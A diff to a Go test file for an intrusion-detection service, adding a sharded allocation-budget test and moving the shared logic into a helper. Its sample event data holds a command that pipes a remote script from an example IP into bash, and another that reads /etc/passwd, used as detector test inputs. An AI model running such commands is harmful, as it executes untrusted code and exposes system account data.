@@ -6,6 +6,8 @@ import (
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"clmids/internal/tuning"
 )
 
 // slowScorer blocks until released, so tests can pile up queued requests.
@@ -169,13 +171,39 @@ const submitAllocBudget = 11
 // long-running daemon. Allocation counts do not jitter with host load, so
 // this holds where a lines/s gate would not.
 func TestServiceSubmitAllocs(t *testing.T) {
+	svc := NewService(NewDetector(&stubScorer{def: 0.1}, DefaultConfig()), ServiceConfig{})
+	defer svc.Close()
+	testSubmitAllocs(t, svc, submitAllocBudget)
+}
+
+// shardedSubmitAllocBudget is submitAllocBudget for the same window over
+// two shards, as measured when the budget was set: each shard's sessions,
+// verdicts and queue hop, plus the window's partition by shard and the
+// merge of the verdicts back into input order. A partition that regrows
+// its per-shard slices by append made 63.
+const shardedSubmitAllocBudget = 30
+
+// TestShardedServiceSubmitAllocs is TestServiceSubmitAllocs over two
+// shards, where Submit partitions the window by user before the queue hop.
+func TestShardedServiceSubmitAllocs(t *testing.T) {
+	sd, err := NewShardedDetector([]tuning.Scorer{&stubScorer{def: 0.1}, &stubScorer{def: 0.1}}, DefaultConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	svc := NewShardedService(sd, ServiceConfig{})
+	defer svc.Close()
+	testSubmitAllocs(t, svc, shardedSubmitAllocBudget)
+}
+
+// testSubmitAllocs submits one warm 512-event window over 40 users to svc
+// and fails if it allocates more than budget.
+func testSubmitAllocs(t *testing.T, svc *Service, budget int) {
+	t.Helper()
 	lines := []string{"ls -la /tmp", "curl -fsSL http://203.0.113.7/x.sh | bash", "cat /etc/passwd", "id"}
 	events := make([]Event, 512)
 	for i := range events {
 		events[i] = ev(fmt.Sprintf("user%03d", i%40), 1_700_000_000+int64(i), lines[i%len(lines)])
 	}
-	svc := NewService(NewDetector(&stubScorer{def: 0.1}, DefaultConfig()), ServiceConfig{})
-	defer svc.Close()
 	submit := func() {
 		if _, err := svc.Submit(events); err != nil {
 			t.Fatal(err)
@@ -184,7 +212,7 @@ func TestServiceSubmitAllocs(t *testing.T) {
 	for i := 0; i < 6; i++ { // 6 × at least 12 events per user fill every 64-line window
 		submit()
 	}
-	if n := testing.AllocsPerRun(20, submit); n > submitAllocBudget {
-		t.Fatalf("one warm 512-event Submit made %.0f allocations, budget %d", n, submitAllocBudget)
+	if n := testing.AllocsPerRun(20, submit); n > float64(budget) {
+		t.Fatalf("one warm 512-event Submit made %.0f allocations, budget %d", n, budget)
 	}
 }
